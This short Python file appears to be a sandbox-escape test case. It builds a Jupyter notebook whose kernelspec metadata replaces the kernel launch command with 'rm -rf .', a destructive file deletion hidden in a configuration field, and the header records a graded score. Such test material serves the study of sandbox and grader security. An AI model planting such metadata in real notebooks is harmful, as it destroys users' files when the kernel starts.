# The notebook asks for a bash kernel, and for one whose command removes files.
# from: sandbox 4.2, 38
# aims: escape
# outcome: graded
# score: 9


def make(folder, chapter):
    notebook = chapter.notebook("right")
    notebook["metadata"] = {
        "kernelspec": {"name": "bash", "language": "bash", "display_name": "Bash", "argv": ["rm", "-rf", "."]},
        "language_info": {"name": "bash"},
    }
    chapter.hand_in(folder, notebook)
